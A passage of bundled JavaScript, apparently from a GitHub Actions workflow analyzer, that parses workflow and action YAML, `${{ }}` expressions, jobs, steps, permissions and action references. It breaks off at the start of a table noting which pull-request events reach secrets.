  if (WORKFLOW_PATTERN.test(relative)) return "workflow";
  if (ACTION_PATTERN.test(relative)) return "action";
  return null;
}
function listWorkflowFiles(workspace, ignored = () => false) {
  const found = [];
  for (const relative of workspace.files()) {
    const kind = workflowFileKind(relative);
    if (kind && !ignored(relative)) found.push({ path: relative, kind });
  }
  return found;
}
function parseOne(workspace, path6, kind) {
  const read = workspace.readText(path6, MAX_WORKFLOW_BYTES);
  if (!read.ok) return { failure: { path: path6, kind, message: `cannot read: ${read.reason}`, line: 1, column: 1 } };
  const parsed = parseWorkflowText(path6, kind, read.text);
  return parsed.ok ? { file: Object.assign(parsed.file, { kind }) } : { failure: { ...parsed.failure, kind } };
}
function parseWorkflowText(path6, kind, text) {
  const parsed = parseYaml(path6, text);
  if (!parsed.ok) return parsed;
  const refused = kind === "workflow" ? githubRefusal(parsed.file) : null;
  return refused ? { ok: false, failure: refused } : parsed;
}
function githubRefusal(file) {
  const merge = file.doc.mergeKeys[0];
  if (merge === void 0) return null;
  const position = file.lineCounter.linePos(merge);
  const more = file.doc.mergeKeys.length > 1 ? ` (and ${file.doc.mergeKeys.length - 1} more)` : "";
  return { path: file.path, message: `YAML merge key "<<:"${more}: GitHub Actions does not support merge keys and rejects the workflow`, line: position.line, column: position.col };
}
function parseWorkflowFiles(workspace, ignored) {
  const result = { files: [], failures: [] };
  for (const { path: path6, kind } of listWorkflowFiles(workspace, ignored)) {
    const outcome = kind === "action" ? workspace.memo(`parsed:${path6}`, () => parseOne(workspace, path6, kind)) : parseOne(workspace, path6, kind);
    if ("failure" in outcome) result.failures.push(outcome.failure);
    else result.files.push(outcome.file);
  }
  return result;
}
var workflowFilesFact = defineFact(
  "workspace.workflow-files",
  async (ctx) => known(await explainFailures(ctx.workspace, parseWorkflowFiles(ctx.workspace, ctx.workspace.isIgnored))),
  { scope: "workflow-group" }
);
async function explainFailures(workspace, files) {
  const syntax = files.failures.filter((failure) => !failure.message.startsWith("cannot read") && !failure.message.startsWith("YAML merge key"));
  if (syntax.length === 0) return files;
  const { explainYamlFailure } = await import("./yaml-diagnostics-76VWBTTJ.js");
  const failures = files.failures.map((failure) => {
    if (!syntax.includes(failure)) return failure;
    const read = workspace.readText(failure.path, MAX_WORKFLOW_BYTES);
    return read.ok ? { ...explainYamlFailure(read.text, failure), kind: failure.kind } : failure;
  });
  return { files: files.files, failures };
}
var WORKFLOW_DIRECTORIES = /* @__PURE__ */ new Set([".github", ".github/workflows"]);
function skippedWorkflowLinks(workspace) {
  return workspace.skipped().filter((link) => {
    if (workspace.isIgnored(link.path)) return false;
    return workflowFileKind(link.path) !== null || link.directory !== false && WORKFLOW_DIRECTORIES.has(link.path);
  });
}
var skippedWorkflowLinksFact = defineFact("workspace.skipped-workflow-links", async (ctx) => known(skippedWorkflowLinks(ctx.workspace)));

// src/workflow/expressions.ts
function scanExpressions(value) {
  const found = [];
  let from = 0;
  while (from < value.length) {
    const start = value.indexOf("${{", from);
    if (start === -1) break;
    const bodyStart = start + 3;
    let i = bodyStart;
    let inString = false;
    let close = -1;
    while (i < value.length) {
      const c = value.charCodeAt(i);
      if (inString) {
        if (c === 39) {
          if (value.charCodeAt(i + 1) === 39) i += 1;
          else inString = false;
        }
      } else if (c === 39) {
        inString = true;
      } else if (c === 125 && value.charCodeAt(i + 1) === 125) {
        close = i;
        break;
      }
      i += 1;
    }
    if (close === -1) {
      found.push({ start, end: value.length, body: value.slice(bodyStart), bodyStart, terminated: false });
      break;
    }
    found.push({ start, end: close + 2, body: value.slice(bodyStart, close), bodyStart, terminated: true });
    from = close + 2;
  }
  return found;
}
var MAX_EXPRESSION_LENGTH = 21e3;
var MAX_DEPTH = 50;
function lex(text) {
  const tokens = [];
  let i = 0;
  while (i < text.length) {
    const c = text[i];
    if (c === " " || c === "	" || c === "\n" || c === "\r") {
      i += 1;
      continue;
    }
    const start = i;
    if (c === "'") {
      let v = "";
      i += 1;
      for (; ; ) {
        if (i >= text.length) return null;
        if (text[i] === "'") {
          if (text[i + 1] === "'") {
            v += "'";
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        v += text[i];
        i += 1;
      }
      tokens.push({ t: "str", v, s: start, e: i });
      continue;
    }
    if (/[0-9]/.test(c) || c === "-" && /[0-9.]/.test(text[i + 1] ?? "") && !lastIsValue(tokens)) {
      const m = /^-?(0x[0-9a-fA-F]+|0o[0-7]+|[0-9]*\.?[0-9]+(e[+-]?[0-9]+)?)/i.exec(text.slice(i));
      if (!m) return null;
      i += m[0].length;
      tokens.push({ t: "num", v: Number(m[0]), s: start, e: i });
      continue;
    }
    if (/[A-Za-z_]/.test(c)) {
      while (i < text.length && /[A-Za-z0-9_-]/.test(text[i])) i += 1;
      tokens.push({ t: "id", v: text.slice(start, i), s: start, e: i });
      continue;
    }
    const two = text.slice(i, i + 2);
    if (two === "==" || two === "!=" || two === "<=" || two === ">=" || two === "&&" || two === "||") {
      tokens.push({ t: "op", v: two, s: start, e: i + 2 });
      i += 2;
      continue;
    }
    if (".[]()!<>,*".includes(c)) {
      tokens.push({ t: "op", v: c, s: start, e: i + 1 });
      i += 1;
      continue;
    }
    return null;
  }
  return tokens;
}
function lastIsValue(tokens) {
  const last = tokens[tokens.length - 1];
  if (!last) return false;
  return last.t !== "op" || last.v === ")" || last.v === "]";
}
var Parser = class {
  constructor(tokens) {
    this.tokens = tokens;
  }
  tokens;
  pos = 0;
  depth = 0;
  parse() {
    const node = this.or();
    return node && this.pos === this.tokens.length ? node : null;
  }
  peek() {
    return this.tokens[this.pos];
  }
  isOp(v) {
    const token = this.tokens[this.pos];
    return token?.t === "op" && token.v === v;
  }
  binary(next, ops) {
    let left = next();
    while (left) {
      const token = this.peek();
      if (!token || token.t !== "op" || !ops.includes(token.v)) break;
      this.pos += 1;
      const right = next();
      if (!right) return null;
      left = { kind: "binary", op: token.v, left, right, start: left.start, end: right.end };
    }
    return left;
  }
  or() {
    if (++this.depth > MAX_DEPTH) return null;
    const node = this.binary(() => this.and(), ["||"]);
    this.depth -= 1;
    return node;
  }
  and() {
    return this.binary(() => this.equality(), ["&&"]);
  }
  equality() {
    return this.binary(() => this.comparison(), ["==", "!="]);
  }
  comparison() {
    return this.binary(() => this.unary(), ["<", "<=", ">", ">="]);
  }
  unary() {
    const token = this.peek();
    if (token?.t === "op" && token.v === "!") {
      this.pos += 1;
      if (++this.depth > MAX_DEPTH) return null;
      const operand = this.unary();
      this.depth -= 1;
      return operand ? { kind: "not", operand, start: token.s, end: operand.end } : null;
    }
    return this.postfix();
  }
  postfix() {
    let node = this.primary();
    while (node) {
      if (this.isOp(".")) {
        this.pos += 1;
        const name = this.peek();
        let segment;
        if (name?.t === "id") segment = name.v;
        else if (name?.t === "op" && name.v === "*") segment = "*";
        else return null;
        this.pos += 1;
        node = member(node, segment, name.e);
      } else if (this.isOp("[")) {
        this.pos += 1;
        let index;
        if (this.isOp("*")) {
          this.pos += 1;
          index = "*";
        } else index = this.or();
        if (!index || !this.isOp("]")) return null;
        const close = this.peek();
        this.pos += 1;
        if (index === "*") node = member(node, "*", close.e);
        else if (index.kind === "literal" && typeof index.value === "string") node = member(node, index.value, close.e);
        else if (index.kind === "literal" && typeof index.value === "number") node = member(node, "*", close.e);
        else node = { kind: "access", object: node, property: index, start: node.start, end: close.e };
      } else break;
    }
    return node;
  }
  primary() {
    const token = this.peek();
    if (!token) return null;
    this.pos += 1;
    if (token.t === "str") return { kind: "literal", value: token.v, start: token.s, end: token.e };
    if (token.t === "num") return { kind: "literal", value: token.v, start: token.s, end: token.e };
    if (token.t === "op") {
      if (token.v !== "(") return null;
      const inner = this.or();
      if (!inner || !this.isOp(")")) return null;
      this.pos += 1;
      return inner;
    }
    const lower2 = token.v.toLowerCase();
    if (lower2 === "true" || lower2 === "false") return { kind: "literal", value: lower2 === "true", start: token.s, end: token.e };
    if (lower2 === "null") return { kind: "literal", value: null, start: token.s, end: token.e };
    if (this.isOp("(")) {
      this.pos += 1;
      const args = [];
      if (!this.isOp(")")) {
        for (; ; ) {
          const arg = this.or();
          if (!arg) return null;
          args.push(arg);
          if (this.isOp(",")) {
            this.pos += 1;
            continue;
          }
          break;
        }
      }
      if (!this.isOp(")")) return null;
      const close = this.peek();
      this.pos += 1;
      return { kind: "call", name: lower2, args, start: token.s, end: close.e };
    }
    return { kind: "context", path: lower2, segments: [lower2], dynamic: false, start: token.s, end: token.e };
  }
};
function member(object, segment, end) {
  if (object.kind === "context") {
    const lower2 = segment.toLowerCase();
    return { kind: "context", path: `${object.path}.${lower2}`, segments: [...object.segments, lower2], dynamic: object.dynamic, start: object.start, end };
  }
  return { kind: "access", object, property: segment === "*" ? "*" : segment.toLowerCase(), start: object.start, end };
}
var parseCache = /* @__PURE__ */ new Map();
function parseExpression(body) {
  const cached = parseCache.get(body);
  if (cached !== void 0 || parseCache.has(body)) return cached ?? null;
  let result = null;
  if (body.length <= MAX_EXPRESSION_LENGTH) {
    const tokens = lex(body);
    result = tokens && tokens.length > 0 ? new Parser(tokens).parse() : null;
  }
  if (parseCache.size > 5e4) parseCache.clear();
  parseCache.set(body, result);
  return result;
}
function contextRefs(node) {
  const out = [];
  const visit = (n) => {
    switch (n.kind) {
      case "context":
        out.push(n);
        break;
      case "call":
        n.args.forEach(visit);
        break;
      case "binary":
        visit(n.left);
        visit(n.right);
        break;
      case "not":
        visit(n.operand);
        break;
      case "access":
        visit(n.object);
        if (typeof n.property === "object") visit(n.property);
        break;
      default:
        break;
    }
  };
  if (node) visit(node);
  return out;
}
var PASS_THROUGH_FUNCTIONS = /* @__PURE__ */ new Set(["format", "join", "tojson", "fromjson"]);
function valueRefs(node) {
  const out = [];
  const visit = (n) => {
    switch (n.kind) {
      case "context":
        out.push(n);
        break;
      case "call":
        if (PASS_THROUGH_FUNCTIONS.has(n.name)) n.args.forEach(visit);
        break;
      case "binary":
        if (n.op === "||") {
          visit(n.left);
          visit(n.right);
        } else if (n.op === "&&") {
          visit(n.right);
        }
        break;
      case "access":
        visit(n.object);
        break;
      default:
        break;
    }
  };
  if (node) visit(node);
  return out;
}
function walkExpression(node, visit) {
  if (!node) return;
  visit(node);
  switch (node.kind) {
    case "call":
      node.args.forEach((arg) => walkExpression(arg, visit));
      break;
    case "binary":
      walkExpression(node.left, visit);
      walkExpression(node.right, visit);
      break;
    case "not":
      walkExpression(node.operand, visit);
      break;
    case "access":
      walkExpression(node.object, visit);
      if (typeof node.property === "object") walkExpression(node.property, visit);
      break;
    default:
      break;
  }
}

// src/workflow/source-map.ts
function sourceOffsets(source, node, value, targets) {
  const result = new Array(targets.length).fill(0);
  let next = 0;
  const map = {
    set(i, offset) {
      while (next < targets.length && targets[next] === i) result[next++] = offset;
    }
  };
  const range = node.range;
  if (!range || targets.length === 0) return result;
  const start = range[0];
  const end = Math.min(range[1], source.length);
  const type = node.type;
  let p = start;
  if (type === Scalar.BLOCK_LITERAL || type === Scalar.BLOCK_FOLDED) {
    const newline = source.indexOf("\n", start);
    p = newline === -1 || newline >= end ? end : newline + 1;
  } else if (type === Scalar.QUOTE_DOUBLE || type === Scalar.QUOTE_SINGLE) {
    p = start + 1;
  }
  const double = type === Scalar.QUOTE_DOUBLE;
  const single = type === Scalar.QUOTE_SINGLE;
  const last = targets[targets.length - 1];
  for (let i = 0; i < value.length && i <= last; i += 1) {
    const c = value.charCodeAt(i);
    for (; ; ) {
      if (p >= end) {
        map.set(i, Math.max(start, end - 1));
        break;
      }
      const s = source.charCodeAt(p);
      if (double && s === 92) {
        const n = source.charCodeAt(p + 1);
        if (n === 10 || n === 13) {
          p += n === 13 && source.charCodeAt(p + 2) === 10 ? 3 : 2;
          while (p < end && (source.charCodeAt(p) === 32 || source.charCodeAt(p) === 9)) p += 1;
          continue;
        }
        const length = n === 120 ? 4 : n === 117 ? 6 : n === 85 ? 10 : 2;
        if (length === 10 && c >= 55296 && c <= 56319 && i + 1 < value.length) {
          map.set(i, p);
          i += 1;
          map.set(i, p);
        } else map.set(i, p);
        p += length;
        break;
      }
      if (single && s === 39 && source.charCodeAt(p + 1) === 39) {
        map.set(i, p);
        p += 2;
        break;
      }
      if (s === c) {
        map.set(i, p);
        p += 1;
        break;
      }
      if ((c === 32 || c === 10) && (s === 10 || s === 13)) {
        map.set(i, p);
        p += s === 13 && source.charCodeAt(p + 1) === 10 ? 2 : 1;
        break;
      }
      p += 1;
    }
  }
  map.set(value.length, Math.min(p, end));
  return result;
}

// src/workflow/build.ts
function deref2(_ctx, node) {
  if (isAlias(node)) return node.resolve();
  return node ?? null;
}
function mapOf(ctx, node) {
  const resolved = deref2(ctx, node);
  return isMap(resolved) ? resolved : null;
}
function pairs(ctx, node, depth = 0) {
  const map = mapOf(ctx, node);
  if (!map) return [];
  const out = [];
  let merged = null;
  for (const pair of map.items) {
    const keyNode = pair.key;
    if (!isScalar(keyNode) || keyNode.value === null || keyNode.value === void 0) continue;
    const key2 = String(keyNode.value);
    if (key2 === "<<" && depth < 5) {
      const source = deref2(ctx, pair.value);
      const sources = isSeq(source) ? source.items : [source];
      for (const item of sources) (merged ??= []).push(...pairs(ctx, item, depth + 1));
      continue;
    }
    out.push({ key: key2, keyNode, value: deref2(ctx, pair.value) });
  }
  if (merged) {
    const own = new Set(out.map((p) => p.key));
    for (const pair of merged) if (!own.has(pair.key)) out.push(pair);
  }
  return out;
}
function pairMap(ctx, node) {
  const out = /* @__PURE__ */ new Map();
  for (const pair of pairs(ctx, node)) if (!out.has(pair.key)) out.set(pair.key, pair);
  return out;
}
function items(ctx, node) {
  const resolved = deref2(ctx, node);
  if (!isSeq(resolved)) return [];
  const out = [];
  for (const item of resolved.items) {
    const value = deref2(ctx, item);
    if (value) out.push(value);
  }
  return out;
}
var NO_EXPRESSIONS = Object.freeze([]);
function strOf(ctx, node) {
  const resolved = deref2(ctx, node);
  if (!isScalar(resolved) || resolved.value === null || resolved.value === void 0) return void 0;
  const raw = resolved.value;
  const value = typeof raw === "string" ? raw : String(raw);
  return { value, node: resolved, expressions: value.includes("${{") ? expressionsOf(ctx.text, resolved, value) : NO_EXPRESSIONS };
}
function expressionsOf(text, node, value) {
  const spans = scanExpressions(value);
  if (spans.length === 0) return [];
  let offsets = null;
  const sourceOffset = (index) => {
    if (!offsets) {
      const targets = [];
      for (const span of spans) targets.push(span.start, Math.max(span.start, span.end - 1));
      offsets = sourceOffsets(text, node, value, targets);
    }
    return offsets[index] ?? 0;
  };
  return spans.map((span, i) => new SourcedExpression(span.body, span.terminated ? parseExpression(span.body) : null, span.terminated, span.start, span.end, sourceOffset, i));
}
var SourcedExpression = class {
  constructor(body, ast, terminated, valueStart, valueEnd, sourceOffset, index) {
    this.body = body;
    this.ast = ast;
    this.terminated = terminated;
    this.valueStart = valueStart;
    this.valueEnd = valueEnd;
    this.sourceOffset = sourceOffset;
    this.index = index;
  }
  body;
  ast;
  terminated;
  valueStart;
  valueEnd;
  sourceOffset;
  index;
  get start() {
    return this.sourceOffset(2 * this.index);
  }
  get end() {
    return this.sourceOffset(2 * this.index + 1) + 1;
  }
};
function conditionExpressions(file, str2) {
  if (str2.expressions.length > 0) return str2.expressions;
  const cached = conditionCache.get(str2);
  if (cached) return cached;
  const [start, end] = sourceSpan(file, str2, 0, str2.value.length);
  const expression = { body: str2.value, ast: parseExpression(str2.value), terminated: true, valueStart: 0, valueEnd: str2.value.length, start, end, bare: true };
  conditionCache.set(str2, [expression]);
  return [expression];
}
var conditionCache = new ObjectMemo();
function expressionNodeSpan(file, str2, expression, node) {
  const bodyStart = expression.valueStart + (expression.bare ? 0 : 3);
  return sourceSpan(file, str2, bodyStart + node.start, bodyStart + node.end);
}
function sourceSpan(file, str2, valueStart, valueEnd) {
  const first = Math.min(valueStart, str2.value.length);
  const [start = 0, last = start] = sourceOffsets(file.text, str2.node, str2.value, [first, Math.max(first, Math.min(valueEnd, str2.value.length) - 1)]);
  return [start, Math.max(start + 1, last + 1)];
}
var EMPTY = /* @__PURE__ */ new Map();
function valueEntries(ctx, node) {
  const list = pairs(ctx, node);
  if (list.length === 0) return EMPTY;
  const out = /* @__PURE__ */ new Map();
  for (const pair of list) {
    if (out.has(pair.key)) continue;
    out.set(pair.key, { name: pair.key, keyNode: pair.keyNode, node: pair.value, value: strOf(ctx, pair.value) ?? null });
  }
  return out;
}
function envOf(ctx, node) {
  return valueEntries(ctx, node);
}
function stringList(ctx, node) {
  const resolved = deref2(ctx, node);
  if (isSeq(resolved)) return items(ctx, resolved).flatMap((item) => strOf(ctx, item)?.value ?? []);
  const single = strOf(ctx, resolved);
  return single ? [single.value] : [];
}
function permissionsOf(ctx, pair) {
  if (!pair) return void 0;
  const permissions = { keyNode: pair.keyNode, node: pair.value, form: "invalid", scopes: /* @__PURE__ */ new Map() };
  const value = pair.value;
  if (isScalar(value)) {
    const text = value.value === null || value.value === void 0 ? "" : String(value.value);
    if (text === "read-all" || text === "write-all") permissions.form = text;
    else if (text.includes("${{")) permissions.form = "expression";
    else if (text === "") permissions.form = "empty";
    return permissions;
  }
  if (value === null) {
    permissions.form = "empty";
    return permissions;
  }
  if (!isMap(value)) return permissions;
  const entries = pairs(ctx, value);
  permissions.form = entries.length === 0 ? "empty" : "map";
  for (const entry2 of entries) {
    const level = strOf(ctx, entry2.value)?.value ?? "";
    permissions.scopes.set(entry2.key, { level, keyNode: entry2.keyNode, valueNode: entry2.value });
  }
  return permissions;
}
function inputsOf(ctx, node) {
  const out = /* @__PURE__ */ new Map();
  for (const pair of pairs(ctx, node)) {
    const fields = pairMap(ctx, pair.value);
    const input2 = { name: pair.key, keyNode: pair.keyNode };
    const type = strOf(ctx, fields.get("type")?.value)?.value;
    if (type) input2.type = type.toLowerCase();
    const required = strOf(ctx, fields.get("required")?.value)?.value;
    if (required !== void 0) input2.required = required === "true";
    const def = strOf(ctx, fields.get("default")?.value);
    if (def) input2.default = def;
    const options = fields.get("options");
    if (options) input2.options = stringList(ctx, options.value);
    out.set(pair.key, input2);
  }
  return out;
}
function triggerOf(ctx, event, node, config) {
  const trigger = { event, node, config, filters: /* @__PURE__ */ new Map(), inputs: /* @__PURE__ */ new Map(), secrets: /* @__PURE__ */ new Map() };
  for (const pair of pairs(ctx, config)) {
    if (pair.key === "inputs") trigger.inputs = inputsOf(ctx, pair.value);
    else if (pair.key === "secrets") trigger.secrets = valueEntries(ctx, pair.value);
    else if (pair.key !== "outputs") trigger.filters.set(pair.key, stringList(ctx, pair.value));
  }
  return trigger;
}
function triggersOf(ctx, node) {
  if (isScalar(node)) {
    const text = strOf(ctx, node)?.value;
    return text ? [triggerOf(ctx, text, node, null)] : [];
  }
  if (isSeq(node)) {
    return items(ctx, node).flatMap((item) => {
      const text = isScalar(item) ? strOf(ctx, item)?.value : void 0;
      return text && isScalar(item) ? [triggerOf(ctx, text, item, null)] : [];
    });
  }
  return pairs(ctx, node).map((pair) => triggerOf(ctx, pair.key, pair.keyNode, pair.value));
}
var SHA = /^[0-9a-f]{40}$/i;
function parseUses(raw, node) {
  const uses = parseUsesText(raw);
  uses.node = node;
  return uses;
}
function parseUsesText(raw) {
  const value = raw.trim();
  const uses = { raw, kind: "invalid", name: value.toLowerCase(), pinned: false, reusableWorkflow: false };
  if (value.startsWith("./") || value.startsWith("$/")) {
    uses.kind = "local";
    if (value.startsWith("$/")) uses.selfRepository = true;
    const at2 = value.startsWith("$/") ? value.lastIndexOf("@") : -1;
    uses.path = (at2 > 0 ? value.slice(2, at2) : value.slice(2)).replace(/^\.\//, "");
    if (at2 > 0) uses.ref = value.slice(at2 + 1);
    uses.name = `./${uses.path}`.toLowerCase();
    uses.reusableWorkflow = /\.ya?ml$/i.test(uses.path);
    uses.pinned = true;
    return uses;
  }
  if (value.startsWith("docker://")) {
    uses.kind = "docker";
    uses.image = value.slice("docker://".length);
    uses.name = uses.image.toLowerCase();
    uses.pinned = /@sha256:[0-9a-f]{64}$/i.test(uses.image);
    return uses;
  }
  const at = value.lastIndexOf("@");
  if (at <= 0) return uses;
  const target2 = value.slice(0, at);
  const ref = value.slice(at + 1);
  const parts = target2.split("/");
  if (parts.length < 2 || !parts[0] || !parts[1] || !ref) return uses;
  uses.kind = "remote";
  uses.owner = parts[0];
  uses.repo = parts[1];
  if (parts.length > 2) uses.path = parts.slice(2).join("/");
  uses.ref = ref;
  uses.slug = `${parts[0]}/${parts[1]}`.toLowerCase();
  uses.name = target2.toLowerCase();
  uses.pinned = SHA.test(ref);
  uses.reusableWorkflow = /\/\.github\/workflows\/[^/]+\.ya?ml$/i.test(target2);
  return uses;
}
function usesOf(ctx, node) {
  const str2 = strOf(ctx, node);
  return str2 ? parseUses(str2.value, str2.node) : void 0;
}
function stepOf(ctx, node, index, job, action, defaultShell) {
  const fields = pairMap(ctx, node);
  const step = { index, node, with: EMPTY, env: EMPTY, job, action, effectiveShell: defaultShell };
  const id = strOf(ctx, fields.get("id")?.value);
  if (id) step.id = id;
  const name = strOf(ctx, fields.get("name")?.value);
  if (name) step.name = name;
  const condition = strOf(ctx, fields.get("if")?.value);
  if (condition) step.if = condition;
  const uses = usesOf(ctx, fields.get("uses")?.value);
  if (uses) step.uses = uses;
  step.with = valueEntries(ctx, fields.get("with")?.value);
  const run = strOf(ctx, fields.get("run")?.value);
  if (run) step.run = run;
  const shell = strOf(ctx, fields.get("shell")?.value);
  if (shell) {
    step.shell = shell;
    step.effectiveShell = shell.value;
  }
  step.env = envOf(ctx, fields.get("env")?.value);
  const workingDirectory = strOf(ctx, fields.get("working-directory")?.value);
  if (workingDirectory) step.workingDirectory = workingDirectory;
  if (strOf(ctx, fields.get("background")?.value)?.value === "true") step.background = true;
  const continueOnError = fields.get("continue-on-error")?.value;
  if (continueOnError) step.continueOnError = continueOnError;
  return step;
}
function stepNodes(ctx, node) {
  const out = [];
  for (const item of items(ctx, node)) {
    if (!isMap(item)) continue;
    const parallel = pairMap(ctx, item).get("parallel")?.value;
    if (parallel && isSeq(parallel)) {
      for (const member2 of items(ctx, parallel)) if (isMap(member2)) out.push({ node: member2, group: item });
    } else out.push({ node: item, group: null });
  }
  return out;
}
function withGroup(step, group) {
  if (group) step.parallelGroup = group;
  return step;
}
function defaultsOf(ctx, node) {
  const run = pairMap(ctx, pairMap(ctx, node).get("run")?.value);
  const out = {};
  const shell = strOf(ctx, run.get("shell")?.value);
  if (shell) out.shell = shell;
  const workingDirectory = strOf(ctx, run.get("working-directory")?.value);
  if (workingDirectory) out.workingDirectory = workingDirectory;
  return out;
}
function containerOf(ctx, node, name) {
  const container = { node, env: EMPTY, ...name !== void 0 ? { name } : {} };
  if (isScalar(node)) {
    const image2 = strOf(ctx, node);
    if (image2) container.image = image2;
    return container;
  }
  const fields = pairMap(ctx, node);
  const image = strOf(ctx, fields.get("image")?.value);
  if (image) container.image = image;
  const credentials = fields.get("credentials");
  if (credentials?.value) {
    const creds = pairMap(ctx, credentials.value);
    container.credentials = { node: credentials.value };
    const username = strOf(ctx, creds.get("username")?.value);
    if (username) container.credentials.username = username;
    const password = strOf(ctx, creds.get("password")?.value);
    if (password) container.credentials.password = password;
  }
  container.env = envOf(ctx, fields.get("env")?.value);
  const options = strOf(ctx, fields.get("options")?.value);
  if (options) container.options = options;
  return container;
}
function jobOf(ctx, workflow, pair) {
  const fields = pairMap(ctx, pair.value);
  const job = {
    id: pair.key,
    keyNode: pair.keyNode,
    node: pair.value,
    workflow,
    needs: [],
    services: [],
    outputs: EMPTY,
    env: EMPTY,
    defaults: {},
    with: EMPTY,
    steps: []
  };
  const name = strOf(ctx, fields.get("name")?.value);
  if (name) job.name = name;
  const needs = fields.get("needs")?.value;
  job.needs = isSeq(needs) ? items(ctx, needs).flatMap((item) => strOf(ctx, item) ?? []) : [strOf(ctx, needs)].flatMap((s) => s ?? []);
  const condition = strOf(ctx, fields.get("if")?.value);
  if (condition) job.if = condition;
  const runsOn = fields.get("runs-on");
  if (runsOn) {
    const value = runsOn.value;
    const labels = [];
    let group;
    if (isSeq(value)) labels.push(...items(ctx, value).flatMap((item) => strOf(ctx, item) ?? []));
    else if (isMap(value)) {
      const runner = pairMap(ctx, value);
      labels.push(...stringNodes(ctx, runner.get("labels")?.value));
      group = strOf(ctx, runner.get("group")?.value);
    } else {
      const single = strOf(ctx, value);
      if (single) labels.push(single);
    }
    job.runsOn = { node: value, labels, ...group ? { group } : {} };
  }
  const container = fields.get("container")?.value;
  if (container) job.container = containerOf(ctx, container);
  for (const service of pairs(ctx, fields.get("services")?.value)) {
    if (service.value) job.services.push(containerOf(ctx, service.value, service.key));
  }
  const environment = fields.get("environment")?.value;
  if (environment) {
    if (isMap(environment)) {
      const env = pairMap(ctx, environment);
      job.environment = { node: environment };
      const envName = strOf(ctx, env.get("name")?.value);
      if (envName) job.environment.name = envName;
      const url = strOf(ctx, env.get("url")?.value);
      if (url) job.environment.url = url;
      if (env.has("deployment")) job.environment.deployment = env.get("deployment")?.value ?? null;
    } else {
      const envName = strOf(ctx, environment);
      job.environment = { node: environment, ...envName ? { name: envName } : {} };
    }
  }
  job.outputs = valueEntries(ctx, fields.get("outputs")?.value);
  const strategy = fields.get("strategy")?.value;
  if (strategy) job.strategy = { node: strategy, matrix: pairMap(ctx, strategy).get("matrix")?.value ?? null };
  const permissions = permissionsOf(ctx, fields.get("permissions"));
  if (permissions) job.permissions = permissions;
  job.env = envOf(ctx, fields.get("env")?.value);
  job.defaults = defaultsOf(ctx, fields.get("defaults")?.value);
  const uses = usesOf(ctx, fields.get("uses")?.value);
  if (uses) job.uses = uses;
  job.with = valueEntries(ctx, fields.get("with")?.value);
  const secrets = fields.get("secrets")?.value;
  if (secrets) {
    const inherit = strOf(ctx, secrets)?.value === "inherit";
    job.secrets = { node: secrets, inherit, entries: inherit ? /* @__PURE__ */ new Map() : valueEntries(ctx, secrets) };
  }
  const concurrency = fields.get("concurrency")?.value;
  if (concurrency) job.concurrency = concurrency;
  const shell = job.defaults.shell?.value ?? workflow.defaults.shell?.value ?? "bash";
  job.steps = stepNodes(ctx, fields.get("steps")?.value).map(({ node, group }, index) => withGroup(stepOf(ctx, node, index, job, null, shell), group));
  return job;
}
function stringNodes(ctx, node) {
  const resolved = deref2(ctx, node);
  if (isSeq(resolved)) return items(ctx, resolved).flatMap((item) => strOf(ctx, item) ?? []);
  const single = strOf(ctx, resolved);
  return single ? [single] : [];
}
function buildWorkflow(file) {
  const ctx = { text: file.text };
  const top = pairMap(ctx, file.doc.contents);
  const workflow = {
    kind: "workflow",
    path: file.path,
    file,
    triggers: [],
    env: envOf(ctx, top.get("env")?.value),
    defaults: defaultsOf(ctx, top.get("defaults")?.value),
    jobs: [],
    jobsById: /* @__PURE__ */ new Map()
  };
  const name = strOf(ctx, top.get("name")?.value);
  if (name) workflow.name = name;
  const runName = strOf(ctx, top.get("run-name")?.value);
  if (runName) workflow.runName = runName;
  const on = top.get("on") ?? top.get("true");
  if (on) {
    workflow.on = { keyNode: on.keyNode, node: on.value };
    workflow.triggers = triggersOf(ctx, on.value);
  }
  const permissions = permissionsOf(ctx, top.get("permissions"));
  if (permissions) workflow.permissions = permissions;
  const concurrency = top.get("concurrency")?.value;
  if (concurrency) workflow.concurrency = concurrency;
  const jobs = top.get("jobs");
  if (jobs) {
    workflow.jobsKey = jobs.keyNode;
    for (const pair of pairs(ctx, jobs.value)) {
      const job = jobOf(ctx, workflow, pair);
      workflow.jobs.push(job);
      if (!workflow.jobsById.has(job.id)) workflow.jobsById.set(job.id, job);
    }
  }
  return workflow;
}
function buildAction(file) {
  const ctx = { text: file.text };
  const top = pairMap(ctx, file.doc.contents);
  const action = {
    kind: "action",
    path: file.path,
    file,
    inputs: inputsOf(ctx, top.get("inputs")?.value),
    outputs: /* @__PURE__ */ new Map()
  };
  const name = strOf(ctx, top.get("name")?.value);
  if (name) action.name = name;
  for (const pair of pairs(ctx, top.get("outputs")?.value)) {
    const value = isMap(pair.value) ? pairMap(ctx, pair.value).get("value")?.value ?? null : pair.value;
    action.outputs.set(pair.key, { name: pair.key, keyNode: pair.keyNode, node: value, value: strOf(ctx, value) ?? null });
  }
  const runsNode = top.get("runs")?.value;
  if (runsNode && isMap(runsNode)) {
    const runs = pairMap(ctx, runsNode);
    const using = strOf(ctx, runs.get("using")?.value);
    const lower2 = using?.value.toLowerCase() ?? "";
    const kind = lower2 === "composite" ? "composite" : lower2 === "docker" ? "docker" : /^node\d+$/.test(lower2) ? "javascript" : "unknown";
    action.runs = { node: runsNode, kind, steps: [], args: stringNodes(ctx, runs.get("args")?.value), env: envOf(ctx, runs.get("env")?.value) };
    if (using) action.runs.using = using;
    for (const key2 of ["image", "main", "pre", "post", "entrypoint"]) {
      const value = strOf(ctx, runs.get(key2)?.value);
      if (value) action.runs[key2] = value;
    }
    action.runs.steps = stepNodes(ctx, runs.get("steps")?.value).map(({ node, group }, index) => withGroup(stepOf(ctx, node, index, null, action, "bash"), group));
  }
  return action;
}
function allExpressionStrings(file) {
  const ctx = { text: file.text };
  const out = [];
  const visit = (node) => {
    if (isScalar(node)) {
      if (typeof node.value === "string" && node.value.includes("${{")) {
        const str2 = strOf(ctx, node);
        if (str2) out.push(str2);
      }
    } else if (isMap(node)) {
      for (const pair of node.items) visit(pair.value);
    } else if (isSeq(node)) {
      for (const item of node.items) visit(item);
    }
  };
  visit(file.doc.contents);
  return out;
}

// src/workflow/data/events.ts
var OUTSIDER_EVENTS = [
  { event: "pull_request", privileged: false, why: "anyone can open a pull request from a fork; it runs with a read-only token and no secrets" },
  { event: "pull_request_target", privileged: true, why: "a fork's pull request runs the base branch's workflow with its secrets and a write token" },
  { event: "pull_request_review", privileged: false, why: "anyone can review a pull request; fork pull requests get a read-only token" },
